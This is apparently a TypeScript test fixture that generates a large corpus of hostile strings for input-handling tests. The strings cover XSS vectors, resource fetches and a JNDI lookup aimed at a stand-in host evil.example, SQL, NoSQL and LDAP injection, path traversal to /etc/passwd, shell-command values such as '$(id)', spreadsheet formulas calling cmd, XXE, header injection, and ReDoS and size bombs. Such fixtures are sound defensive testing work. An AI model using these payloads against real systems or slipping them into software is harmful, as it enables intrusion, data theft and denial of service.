/*
 * Strings that have broken programs, for tests: families, each of a few stems and the ways in which they are varied. What
 * would run calls `canary`, which every test that shows them watches; what would be fetched comes from evil.example.
 */

const RUN = 'canary(1)'
const AWAY = 'https://evil.example/a'

const of = (code: number): string => String.fromCodePoint(code)
const each = <A, B>(all: readonly A[], others: readonly B[], join: (a: A, b: B) => string): string[] =>
  all.flatMap((one) => others.map((other) => join(one, other)))

const SCHEMES = [
  ...[
    'javascript:',
    'JaVaScRiPt:',
    'JAVASCRIPT:',
    ' javascript:',
    '\tjavascript:',
    '\u0001javascript:',
    'java\tscript:',
  ],
  ...[
    'java\nscript:',
    'java\r\nscript:',
    'javascript\t:',
    'javascript\u00a0:',
    'java\u00adscript:',
    'java\u200bscript:',
  ],
  ...[
    '&#106;avascript:',
    '&#x6a;avascript:',
    '&#0000106avascript:',
    'javascript&colon;',
    'javascript&#58;',
    '%6aavascript:',
  ],
  ...[
    'java&Tab;script:',
    'java&NewLine;script:',
    '\\u006aavascript:',
    '\\x6aavascript:',
    'ｊａｖａｓｃｒｉｐｔ:',
    'javascript：',
  ],
  ...['view-source:javascript:', 'feed:javascript:', 'jar:javascript:', 'blob:javascript:', 'vbscript:', 'livescript:'],
  ...['//javascript:', 'https://javascript:', 'mailto:javascript:', 'javascript:javascript:', 'JaVa\u0000ScRiPt:'],
] as const
const CODES = [RUN, `//%0a${RUN}`, `/*-/*'/*"/**/${RUN}`, `void(${RUN})`, `'-${RUN}-'`, `alert(1);${RUN}`] as const
const DATA = [
  ...['data:text/html,', 'data:text/html;charset=utf-7,', 'DATA:text/html,', 'data:image/svg+xml,', 'data:text/xml,'],
  ...[
    'data:application/xhtml+xml,',
    'data:,',
    'data:text/javascript,',
    'data:text/html;base64,',
    'filesystem:',
    'file:///',
  ],
] as const

const TAGS = [
  'img src=x',
  'svg',
  'body',
  'details open',
  'video src=x',
  'input autofocus',
  'marquee',
  'iframe',
  'a href=x',
  'style',
] as const
const HANDLERS = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onclick',
  'onmouseover',
  'onanimationstart',
  'onbegin',
  'ONERROR',
] as const
const QUOTED = [
  (at: string) => `${at}=${RUN}`,
  (at: string) => `${at}="${RUN}"`,
  (at: string) => `${at}='${RUN}'`,
  (at: string) => `/${at}\n=\n\`${RUN}\``,
] as const

const BREAKS = [
  '',
  '">',
  "'>",
  '</textarea>',
  '</title>',
  '</script>',
  '-->',
  ']]>',
  '</style>',
  '\u0000',
  '`>',
  '%22%3E',
] as const
const SCRIPTS = [
  ...[
    `<script>${RUN}</script>`,
    `<SCRIPT>${RUN}</SCRIPT>`,
    `<script src=${AWAY}></script>`,
    `<scr<script>ipt>${RUN}</script>`,
  ],
  ...[
    `<script/x>${RUN}</script>`,
    `<script\n>${RUN}</script\n>`,
    `＜script＞${RUN}＜/script＞`,
    `%3Cscript%3E${RUN}%3C/script%3E`,
  ],
  ...[
    `&lt;script&gt;${RUN}&lt;/script&gt;`,
    `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
    `<script type=module>${RUN}</script>`,
  ],
  ...[`+ADw-script+AD4-${RUN}+ADw-/script+AD4-`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`],
] as const

const SVG = [
  ...[
    `<svg><script>${RUN}</script></svg>`,
    `<svg onload=${RUN}>`,
    `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  ],
  ...[`<svg><a xlink:href="javascript:${RUN}"><text y=9>x</text></a></svg>`, `<svg><use href="${AWAY}#x"/></svg>`],
  ...[
    `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
    `<svg><set attributeName=onload to=${RUN}>`,
  ],
  ...[`<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`, `<math href="javascript:${RUN}">x</math>`],
  ...[`<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`],
  ...[
    `<svg><style><img title="</style><img src=x onerror=${RUN}>">`,
    `<svg><desc><![CDATA[</desc><script>${RUN}</script>]]></svg>`,
  ],
  ...[
    `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
    `<svg><image href="${AWAY}"/></svg>`,
  ],
] as const

const FETCHING = [
  ...[
    `<img src="${AWAY}">`,
    `<img srcset="${AWAY} 2x">`,
    `<link rel=stylesheet href="${AWAY}">`,
    `<link rel=prefetch href="${AWAY}">`,
  ],
  ...[`<meta http-equiv=refresh content="0;url=${AWAY}">`, `<base href="${AWAY}">`, `<iframe src="${AWAY}"></iframe>`],
  ...[
    `<object data="${AWAY}"></object>`,
    `<embed src="${AWAY}">`,
    `<form action="${AWAY}"><button autofocus>x</button></form>`,
  ],
  ...[
    `<video poster="${AWAY}">`,
    `<audio src="${AWAY}" autoplay>`,
    `<input type=image src="${AWAY}">`,
    `<portal src="${AWAY}">`,
  ],
  ...[
    `<style>@import "${AWAY}";</style>`,
    `<p style="background:url(${AWAY})">`,
    `<table background="${AWAY}">`,
    `<dialog open>`,
  ],
  ...[`<iframe srcdoc="<script>${RUN}</script>">`, `<template shadowrootmode=open><script>${RUN}</script></template>`],
] as const

const MARKDOWN = [
  ...[
    `[a](javascript:${RUN})`,
    `[a](<java\nscript:${RUN}>)`,
    `[a](data:text/html,<script>${RUN}</script>)`,
    `![a](${AWAY})`,
  ],
  ...[
    `![a](x "onerror=${RUN}")`,
    `[a]: javascript:${RUN}\n\n[a]`,
    `<javascript:${RUN}>`,
    `[a](\u0001javascript:${RUN})`,
  ],
  ...[
    `![" onerror="${RUN}](x)`,
    `[a](https://example.org" onclick="${RUN})`,
    '```html\n<script>canary(1)</script>\n```',
  ],
  ...[
    `<details open ontoggle=${RUN}>`,
    `| a |\n| - |\n| <img src=x onerror=${RUN}> |`,
    '# '.repeat(200),
    '> '.repeat(300) + 'x',
  ],
  ...['* '.repeat(300) + 'x', '['.repeat(500), '*'.repeat(501), '`'.repeat(999), '<'.repeat(700), '[^1]: '.repeat(90)],
] as const

const PROTOTYPES = [
  ...[
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'valueOf',
    'hasOwnProperty',
    '__defineGetter__',
    '__lookupSetter__',
  ],
  ...[
    'isPrototypeOf',
    'toLocaleString',
    'toJSON',
    'then',
    'length',
    'null',
    'undefined',
    'NaN',
    'true',
    'false',
    '[object Object]',
  ],
] as const
const KEYS = [
  (name: string) => name,
  (name: string) => `{"${name}":{"admin":true}}`,
  (name: string) => `${name}[admin]=1`,
  (name: string) => `${name}.admin`,
  (name: string) => `["${name}"]`,
  (name: string) => `${name} ${name}`,
] as const

const TEMPLATES = [
  ...[
    '{{7*7}}',
    `{{${RUN}}}`,
    `\${${RUN}}`,
    `<%= ${RUN} %>`,
    `#{${RUN}}`,
    `{%${RUN}%}`,
    `[[${RUN}]]`,
    `*{${RUN}}`,
    `@(${RUN})`,
  ],
  ...[
    `{{constructor.constructor('${RUN}')()}}`,
    `{{{${RUN}}}}`,
    `<script>${'${'}${RUN}}</script>`,
    `{{#with "s"}}{{/with}}`,
  ],
  ...[
    '${jndi:ldap://evil.example/a}',
    '${{7*7}}',
    '{{config}}',
    '%{7*7}',
    '$[1]',
    '{0}',
    '%s%s%s%n%n',
    '%x%x%d',
    '%1$s',
    '{{',
  ],
  ...[
    `v-on:click="${RUN}"`,
    `x-init="${RUN}"`,
    `ng-init="${RUN}"`,
    `:class="${RUN}"`,
    `hx-on:load="${RUN}"`,
    `{@html '${RUN}'}`,
  ],
] as const

/** What the wire format of React's server components means something by. */
const FLIGHT = [
  ...[
    '$',
    '$$',
    '$1',
    '$L1',
    '$@1',
    '$F1',
    '$undefined',
    '$NaN',
    '$Infinity',
    '$-0',
    '$D2020-01-01',
    '$n1',
    '$Q1',
    '$W1',
    '$K1',
  ],
  ...[
    '$Sreact.fragment',
    '$Z',
    '$h1',
    '$B1',
    '$T1',
    '0:["$","script",null,{}]',
    '1:I["x"]',
    '["$","script",null,{"children":"x"}]',
  ],
  ...[
    '{"$$typeof":"Symbol(react.element)","type":"script"}',
    'self.__next_f.push([1,"x"])',
    '")</script><script>canary(1)//',
  ],
  ...[
    'NEXT_REDIRECT;replace;https://evil.example;307;',
    'NEXT_HTTP_ERROR_FALLBACK;404',
    '\\u003c/script',
    '</script',
    '<!--<script>',
  ],
  ...[
    '\u2028',
    '\u2029',
    'a\u2028b',
    `\u2028${RUN}\u2029`,
    '\\',
    '\\"',
    '\\\\"',
    "\\'",
    '"',
    "'",
    '`',
    '"]),canary(1),(["',
  ],
] as const

const BIDI = [0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069, 0x200e, 0x200f, 0x061c].map(of)
const INVISIBLE = [
  0x200b, 0x200c, 0x200d, 0x2060, 0xfeff, 0x00ad, 0x180e, 0x3164, 0x115f, 0x1160, 0x2800, 0xe0001, 0xe0041, 0xfe0f,
  0x034f,
].map(of)
const AROUND = [
  (sign: string) => sign,
  (sign: string) => `${sign}invoice${sign}`,
  (sign: string) => `user${sign}fdp.exe`,
  (sign: string) => `${sign.repeat(64)}x`,
  (sign: string) => `a${sign}<b${sign}>שלום ${sign}مرحبا 1${sign}2`,
  (sign: string) => `${'ab'.split('').join(sign)}`.repeat(40),
] as const

const MARKS = [0x0301, 0x0336, 0x035c, 0x0489, 0x0e47, 0x0f7e, 0x20dd, 0x20e3, 0x1ab0, 0xfe20, 0x064b, 0x05b4].map(of)

const ENTITIES = [
  ...[
    '&',
    '&amp;',
    '&amp;amp;amp;',
    '&lt;b&gt;',
    '&#0;',
    '&#x0;',
    '&#xD800;',
    '&#x110000;',
    '&nbsp;',
    '&notit;',
    '&ltscript',
  ],
  ...[
    '&quot;&#39;&apos;',
    '"\'"\'"\'',
    "''''''",
    '""""""',
    `"'\`<>/\\`,
    '“”‘’«»',
    '&#34;&#62;',
    '%22',
    '\\x22',
    '&NotEqualTilde;',
  ],
  ...[
    '<![CDATA[x]]>',
    '<!-- -- -->',
    '<!--',
    '--!>',
    '<!DOCTYPE html>',
    '<?php echo 1 ?>',
    '<%',
    '<x y="z',
    '<a<b<c',
    '</',
    '<>',
    '< >',
  ],
  ...[
    '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
    '<!ENTITY lol "lol">&lol;',
    '{\\rtf1\\object}',
    '<w:p/>',
  ],
] as const
const TWICE = [
  (text: string) => text,
  (text: string) => `a${text}b`,
  (text: string) => text.repeat(20),
  (text: string) => `"${text}'`,
] as const

const CSS = [
  ...[
    `background:url(${AWAY})`,
    `}body{background:url(${AWAY})}`,
    '</style><style>*{display:none}',
    'position:fixed;inset:0;z-index:9999',
  ],
  ...[
    `expression(${RUN})`,
    `-moz-binding:url(${AWAY})`,
    `behavior:url(${AWAY})`,
    '@import url(x)',
    '*{display:none!important}',
    '/*',
    '*/',
  ],
  ...[
    'red;background:url(x)',
    'var(--x,url(x))',
    '\\65 xpression(1)',
    '--a:}',
    'color:red"onload="',
    'width:99999px',
    'font-size:900px',
  ],
] as const
const STYLED = [
  (css: string) => css,
  (css: string) => `<p style="${css}">x</p>`,
  (css: string) => `<style>${css}</style>`,
  (css: string) => `" style="${css}"`,
] as const

const CONTROLS = Array.from({ length: 33 }, (_, code) => of(code === 32 ? 127 : code))
const SURROGATES = [
  '\ud800',
  '\udc00',
  '\ud83d',
  '\ude00\ud83d',
  'a\ud800b',
  '\udfff',
  '\ud800\ud800',
  'x\udbff',
] as const
const C1 = [
  0x80, 0x85, 0x9b, 0x9f, 0xfffe, 0xffff, 0xfdd0, 0x1fffe, 0x10ffff, 0xfff9, 0xfffc, 0xfffd, 0xe000, 0xf8ff,
].map(of)

const FILES = [
  ...[
    '../../../../etc/passwd',
    '..\\..\\windows\\win.ini',
    '/etc/passwd',
    'C:\\boot.ini',
    '\\\\evil.example\\share',
    'file:///etc/passwd',
  ],
  ...[
    '%2e%2e%2f',
    '..%252f',
    '....//',
    '..;/',
    '.',
    '..',
    '...',
    '~',
    '~root',
    '-rf',
    '--help',
    '|id',
    ';id',
    '$(id)',
    '`id`',
    '&& id',
  ],
  ...[
    'CON',
    'PRN',
    'AUX',
    'NUL',
    'COM1',
    'LPT1',
    'con.txt',
    'nul.tar.gz',
    'a.',
    'a ',
    ' a',
    'a:b',
    'a::$DATA',
    'a?b',
    'a*b',
    'a|b',
    'a<b>',
  ],
  ...[
    '.htaccess',
    '.git/config',
    'a.php',
    'a.php.jpg',
    'a.jpg\u0000.exe',
    'a\u202egpj.exe',
    'a.svg',
    'a.html',
    'x'.repeat(255),
    '💣.txt',
  ],
] as const
const ENDINGS = ['', '.txt', '.html', '.docx'] as const

const LINES = ['\r\n', '\n', '\r', '\u0085', '\u2028', '%0d%0a', '\\r\\n', '嘊嘍', '\r\n\r\n', '\u000b'] as const
const HEADERS = [
  ...[
    'Bcc: all@evil.example',
    'Subject: x',
    'Content-Type: text/html',
    'To: all@evil.example',
    'X: y\r\n\r\n<h1>x</h1>',
    '.\r\nRCPT TO:<a@b>',
  ],
  ...[
    'Set-Cookie: assay.session=x',
    'Location: https://evil.example',
    'HTTP/1.1 200 OK',
    'Transfer-Encoding: chunked',
    'Content-Length: 0',
  ],
] as const
const ADDRESSES = [
  'ada@example.org',
  'Ada <ada@example.org>',
  '"a\\"b"@example.org',
  '=?utf-8?q?x?=',
  '=?utf-8?b?eA==?=',
  'a@b, c@d',
  '<>',
  '@',
] as const

const SIGNS = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '＝',
  '＋',
  '－',
  '＠',
  "'=",
  '"=',
  ';=',
  ',=',
  '\u00a0=',
  '\u200b=',
  '|=',
  '%0a=',
] as const
const FORMULAS = [
  '1+1',
  'cmd|"/c calc"!A0',
  'HYPERLINK("https://evil.example","x")',
  'SUM(A1:A9)',
  'IMPORTXML("https://evil.example","//a")',
  'DDE("cmd")',
  'A1',
  '"=1+1"',
  '1;=1+1',
  '1\n=1+1',
  '1\t=1+1',
  'WEBSERVICE("https://evil.example")',
] as const

const SQL = [
  ...[
    "'",
    "' OR '1'='1",
    '\'; DROP TABLE "User"; --',
    "' UNION SELECT NULL--",
    '1; SELECT pg_sleep(9)',
    "\\'; --",
    '$$',
    '$1',
    '$tag$',
  ],
  ...[
    '%',
    '_',
    '%%%%%%',
    '\\%',
    '\\_',
    '\\',
    '\\\\',
    '_%_%_',
    '[a-z]',
    '*',
    '?',
    '(?i)',
    '.*',
    '^',
    '$',
    "'||pg_sleep(9)||'",
    '/**/',
    '--',
  ],
  ...[
    '" OR ""="',
    "E'\\x27'",
    "U&'\\0027'",
    "x'; COPY t FROM PROGRAM 'id'",
    '::text',
    'NULL',
    'DEFAULT',
    "');--",
    '\u02bc',
    '＇ OR 1=1',
  ],
  ...[
    '{$ne:null}',
    '{"$gt":""}',
    '(&(uid=*))',
    "' or count(//*)>0 or '",
    ':*',
    '&',
    '|',
    '!',
    '<->',
    "a' & 'b",
    'a:*b',
    "'a'",
  ],
] as const
const PLACED = [(text: string) => text, (text: string) => `deal${text}`, (text: string) => `${text}deal`] as const

const FORMS = [
  'é',
  'e\u0301',
  'ﬁ',
  'ⅷ',
  '①',
  'Å',
  '\u212b',
  'ﷺ',
  'ſ',
  'İ',
  'ı',
  'ß',
  'ẞ',
  'Ǆ',
  '㍿',
  'ﾊﾟ',
  '각',
  '\u1100\u1161\u11a8',
  'ΐ',
  '\u0390',
  'ᾳ',
  '℀',
  '℡',
  'K',
  '\u212a',
  '＜script＞',
  '｡',
  '․․／',
  '\u2024\u2024\u2215',
  'а́dmin',
  'раypal',
  'ａｄｍｉｎ',
  '𝒶𝒹𝓂𝒾𝓃',
  '👩‍👩‍👧‍👦',
  '🏳️‍🌈',
  '🇦🇨',
  '꧅',
  '𒐫',
] as const

const LONG = [
  'x',
  'W',
  'i',
  '-',
  '_',
  '.',
  '漢',
  'ﷺ',
  '😀',
  'ab',
  '\u0301a',
  'ا',
  '\u00a0',
  '=',
  '<',
  '&',
  '0',
  '/',
  'x\u200d',
  '👩‍👩‍👧‍👦',
] as const
const LENGTHS = [50, 79, 200, 1000, 5000] as const

const BOMBS = [
  ...[
    'a'.repeat(3000) + '!',
    ' '.repeat(5000) + 'x',
    '\n'.repeat(5000),
    '\t'.repeat(3000),
    '((((a+)+)+)+)+$',
    '('.repeat(3000),
    'a,'.repeat(2000),
  ],
  ...[
    'http://'.repeat(700),
    'a@'.repeat(1500),
    '&#'.repeat(1500),
    '{{'.repeat(1500),
    '[]('.repeat(1000),
    '<a '.repeat(1200),
    '!['.repeat(1500),
  ],
  ...[
    '"'.repeat(4000),
    '\\'.repeat(4000),
    '-'.repeat(4000),
    'x\n'.repeat(2500),
    '1'.repeat(4000),
    '(a|a)*'.repeat(500),
    'www.'.repeat(1000),
  ],
] as const
const HUGE = ['a', '<', '漢', '\u202e', '" onerror="'].map((stem) => stem.repeat(Math.floor(1_000_000 / stem.length)))

/** By family, in the order in which they were thought of. */
export const HOSTILE: Readonly<Record<string, readonly string[]>> = {
  'script URLs': [
    ...each(SCHEMES, CODES, (scheme, code) => scheme + code),
    ...each(
      DATA,
      [`<script>${RUN}</script>`, `<svg onload=${RUN}>`, 'PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4='],
      (scheme, code) => scheme + code,
    ),
  ],
  'event handlers': each(
    each(TAGS, HANDLERS, (tag, on) => `${tag}|${on}`),
    QUOTED,
    (one, quote) => {
      const [tag = '', on = ''] = one.split('|')
      return `<${tag} ${quote(on)}>`
    },
  ),
  scripts: each(BREAKS, SCRIPTS, (before, script) => before + script),
  'SVG and MathML': each(['', '">', '<p>', '</svg>'], SVG, (before, svg) => before + svg),
  'what fetches': each(['', '"><', '\n\n'], FETCHING, (before, tag) => before + tag),
  Markdown: each(['', '- ', '\n\n> '], MARKDOWN, (before, mark) => before + mark),
  prototypes: each(PROTOTYPES, KEYS, (name, key) => key(name)),
  templates: each(['', 'a '], TEMPLATES, (before, template) => before + template),
  'the wire of React': each(['', 'a'], FLIGHT, (before, flight) => before + flight),
  'bidi controls': each(BIDI, AROUND, (sign, around) => around(sign)),
  'zero width': each(INVISIBLE, AROUND, (sign, around) => around(sign)),
  'combining towers': each(MARKS, [1, 10, 100, 400], (mark, count) => `z${mark.repeat(count)}a${mark.repeat(count)}`),
  'quotes and entities': each(ENTITIES, TWICE, (text, twice) => twice(text)),
  CSS: each(CSS, STYLED, (css, styled) => styled(css)),
  controls: each(
    [...CONTROLS, ...SURROGATES, ...C1],
    [(sign: string) => sign, (sign: string) => `a${sign}b`],
    (sign, at) => at(sign),
  ),
  'file names': each(FILES, ENDINGS, (name, ending) => name + ending),
  'mail and HTTP headers': [
    ...each(LINES, HEADERS, (line, header) => `x${line}${header}`),
    ...each(ADDRESSES, LINES.slice(0, 3), (address, line) => address + line),
  ],
  formulas: each(SIGNS, FORMULAS, (sign, formula) => sign + formula),
  'SQL and LIKE': each(SQL, PLACED, (text, placed) => placed(text)),
  'normal forms': each(FORMS, [(text: string) => text, (text: string) => text.repeat(30)], (text, at) => at(text)),
  'long words': each(LONG, LENGTHS, (stem, length) => stem.repeat(length)),
  bombs: [...BOMBS, ...HUGE],
}

/** All of them, once each, the families mixed by their sizes: any few in a row are of different kinds. */
export const hostileStrings: readonly string[] = [...new Set(mixed(Object.values(HOSTILE)))]

function mixed(families: readonly (readonly string[])[]): string[] {
  const placed = families.flatMap((family) => family.map((text, at) => ({ text, at: (at + 0.5) / family.length })))
  return placed.toSorted((one, other) => one.at - other.at).map(({ text }) => text)
}
